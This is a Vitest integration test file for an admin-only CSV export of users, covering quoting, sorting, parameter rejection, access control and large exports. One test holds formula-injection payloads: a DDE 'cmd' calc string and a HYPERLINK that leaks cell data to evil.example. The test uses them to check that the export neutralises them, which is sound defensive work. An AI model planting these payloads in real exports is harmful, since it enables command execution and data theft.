import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { ROLES } from '@hearthside/contract/access';
import { MEMBER_SORTS } from '@hearthside/contract/member/sort';
import { lookup } from '../../src/text/normalize';
import { db } from '../harness/database';
import { get, raw } from '../harness/http';
import {
  makeMember,
  signedIn,
  unique,
  type TestMember,
  type TestSession,
} from '../harness/members';
import { readCsv } from '../harness/read-csv';
import { unexpectedErrors } from '../harness/server-log';
import { server } from '../harness/shared';

const BOM = '\ufeff';
const HEADINGS = [
  'First name',
  'Last name',
  'Email',
  'Phone number',
  'Role',
  'Verified',
  'Featured',
  'Date joined',
  'Street address',
  'City',
  'State',
  'Zip code',
  'Country',
];
const EMAIL = 2;

let admin: TestMember & TestSession;
beforeAll(async () => {
  admin = await signedIn({ role: 'admin' });
});
type Query = Record<string, string | number | boolean>;
const ask = (query: Query = {}) => get('/users/export', { token: admin.token, query });
async function cells(query: Query) {
  const { status, text, headers } = await ask(query);
  expect([status, text.startsWith(BOM)]).toEqual([200, true]);
  const [head, ...rows] = readCsv(text.slice(BOM.length));
  expect([head, headers['x-rows']]).toEqual([HEADINGS, String(rows.length)]);
  return rows;
}
const emails = async (query: Query) => (await cells(query)).map((row) => row[EMAIL]);

describe('the list of users as CSV', () => {
  it('is this file, byte by byte', async () => {
    const lastName = unique('Exact');
    const createdAt = new Date('2024-02-29T23:59:59.999Z');
    const plain = { role: 'board_member', firstName: 'Ann', lastName, createdAt } as const;
    const ann = await makeMember({ ...plain, columns: { featured_at: new Date() } });
    const bo = await makeMember({
      firstName: 'Bo "the, Vet"',
      lastName,
      verified: false,
      createdAt,
      role: 'pet_owner',
      columns: {
        phone_number: null,
        street_address: 'Line one\nLine two',
        city: null,
        state: '',
        zip_code: '0123',
        country: '\u6771\u4eac; \u00d8',
      },
    });
    const reply = await ask({ search: lastName });
    expect(reply.text).toBe(
      `${BOM}${HEADINGS.join(',')}\r\n` +
        `Ann,${lastName},${ann.email},5035550123,Board Member,Yes,Yes,2024-02-29,` +
        `1 Test Street,Portland,Oregon,97205,United States\r\n` +
        `"Bo ""the, Vet""",${lastName},${bo.email},,Pet Owner,No,No,2024-02-29,` +
        `"Line one\nLine two",,,0123,\u6771\u4eac; \u00d8\r\n`,
    );
    expect(reply.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="users.csv"',
      'x-rows': '2',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
  });

  it('has its headings even if nobody is found', async () => {
    const { text, headers } = await ask({ search: unique('nobody') });
    expect([text, headers['x-rows']]).toEqual([`${BOM}${HEADINGS.join(',')}\r\n`, '0']);
  });

  it('lets no spreadsheet run a cell', async () => {
    const lastName = unique('Formula');
    const hostile = [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?"&A1,"Click")',
      '=1+1\r\n=2',
      '=1+1\nx',
      '+1+cmd',
      '-2+3+cmd|x',
      '@SUM(1+1)*cmd',
      '\t=1+1',
      '\r=1+1',
      '"=1+1"',
    ];
    for (const text of hostile) {
      const columns = { phone_number: text, street_address: text, city: text, state: text };
      const more = { zip_code: text, country: text };
      await makeMember({ firstName: text, lastName, columns: { ...columns, ...more } });
    }
    const rows = await cells({ search: lastName, sort: 'date_asc' });
    const written = rows.map(([first, , , phone, , , , , street, city, state, zip, country]) => [
      first,
      phone,
      street,
      city,
      state,
      zip,
      country,
    ]);
    const harmless = hostile.map((text) => (text.startsWith('"') ? text : `'${text}`));
    expect(written).toEqual(harmless.map((text) => Array(7).fill(text)));
  });

  it('leaves alone what is no formula', async () => {
    const lastName = unique('Plain');
    const names = ['a=b', 'Jean-Luc', "O'Neil", '5', ' =1', '\u2212 2', '#1', "'s Gravenhage"];
    for (const firstName of names) await makeMember({ firstName, lastName });
    const rows = await cells({ search: lastName, sort: 'date_asc' });
    expect(rows.map(([first]) => first)).toEqual(names);
  });
});

describe('the export is the list', () => {
  const family = unique('Sortan');
  beforeAll(async () => {
    for (const [index, role] of ROLES.entries()) {
      const createdAt = new Date(Date.UTC(2024, 0, 20 - index));
      const firstName = ['\u00c5sa', 'aaron', 'Zo\u00eb', '100%', 'a_b'][index % 5];
      await makeMember({ role, lastName: family, firstName, createdAt });
      await makeMember({ role, lastName: family, firstName, createdAt, verified: false });
    }
    await makeMember({ lastName: family, verified: false, blocked: true });
    await makeMember({ lastName: family, blocked: true });
    await makeMember({ lastName: family, confirmed: false });
    await makeMember({ lastName: family, columns: { deleted_at: new Date() } });
  });

  const SEARCHED = { search: family };
  it.each([
    {},
    ...Object.keys(MEMBER_SORTS).map((sort) => ({ sort })),
    ...ROLES.map((role) => ({ role, sort: 'date_desc' })),
    { verified: true, sort: 'email_asc' },
    { verified: false, sort: 'email_desc' },
    { role: 'foster', verified: false },
    { search: `% ${family}` },
    { search: `a_b ${family}` },
  ] as Query[])('with the same people in the same order: %j', async (query) => {
    const { body } = await get('/users', {
      token: admin.token,
      query: { ...SEARCHED, ...query, limit: 100 },
    });
    const listed = body.users.map(({ user }: { user: { email: string } }) => user.email);
    expect(body.pagination).toEqual({ currentPage: 1, totalPages: 1, total: listed.length });
    expect(listed.length).toBeGreaterThan(0);
    expect(await emails({ ...SEARCHED, ...query })).toEqual(listed);
  });

  it.each([
    ['page', '1'],
    ['limit', '10'],
    ['limit', '1000000000'],
    ['sort', 'password'],
    ['sort', 'nameKey_asc'],
    ['sort', 'directory_email_asc'],
    ['role', 'root'],
    ['verified', '1'],
    ['search', 'x'.repeat(10_000)],
    ['fields', 'password'],
    ['format', 'xlsx'],
    ['filters[email]', 'a'],
  ])('and refuses %s=%.20s', async (key, value) => {
    const reply = await ask({ [key]: value });
    expect([reply.status, reply.headers['x-rows']]).toEqual([400, undefined]);
    expect(reply.headers['content-type']).toMatch(/^application\/json/);
  });

  it('for admins alone', async () => {
    for (const role of ROLES.filter((one) => one !== 'admin')) {
      const { token } = await signedIn({ role });
      const reply = await get('/users/export', { token, query: SEARCHED });
      expect([reply.status, reply.body.error]).toEqual([
        403,
        'You don’t have permission to manage users.',
      ]);
      expect(reply.headers['x-rows']).toBeUndefined();
    }
    const waiting = await signedIn({ role: 'admin', verified: false });
    expect((await get('/users/export', { token: waiting.token })).status).toBe(403);
    expect((await get('/users/export')).status).toBe(401);
  });

  it('to be asked for its length without its rows', async () => {
    const headers = { authorization: `Bearer ${admin.token}` };
    const reply = await raw('HEAD', `/api/users/export?search=${family}`, { headers });
    const total = (await emails(SEARCHED)).length;
    expect([reply.status, reply.text, reply.headers['x-rows']]).toEqual([200, '', String(total)]);
  });
});

describe('an export of many', () => {
  const word = unique('Multitude');
  const nameOf = (index: number) => `N${String(index * 7919).padStart(9, '0')}`;

  beforeAll(async () => {
    const { id } = await makeMember({ lastName: word });
    const { id: _id, ...row } = await db('up_users').where({ id }).first();
    await db('up_users').where({ id }).delete();
    const rows = Array.from({ length: 2000 }, (_one, index) => {
      const [first, email] = [nameOf(index), `${index}.${word}@test.example`];
      const keys = { name_key: lookup(`${first} ${word}`), search_key: lookup(`${first} ${word}`) };
      const documentId = randomUUID().replaceAll('-', '').slice(0, 24);
      return {
        ...row,
        ...keys,
        first_name: first,
        email,
        username: email,
        document_id: documentId,
      };
    });
    await db.batchInsert('up_users', rows, 20);
  });

  it('has every one of two thousand, in order', async () => {
    const rows = await cells({ search: word, sort: 'name_desc' });
    const expected = Array.from({ length: 2000 }, (_one, index) => nameOf(1999 - index));
    expect(rows.map(([first]) => first)).toEqual(expected);
  });

  it('that is broken off does no harm', async () => {
    const url = `${server.baseUrl}/api/users/export`;
    const headers = { authorization: `Bearer ${admin.token}` };
    for (let round = 0; round < 5; round += 1) {
      const aborted = new AbortController();
      const { body, status } = await fetch(url, { headers, signal: aborted.signal });
      expect([status, (await body?.getReader().read())?.done]).toEqual([200, false]);
      aborted.abort();
    }
    expect(await cells({ search: word })).toHaveLength(2000);
    expect(unexpectedErrors(server.logFile)).toEqual([]);
  });
});
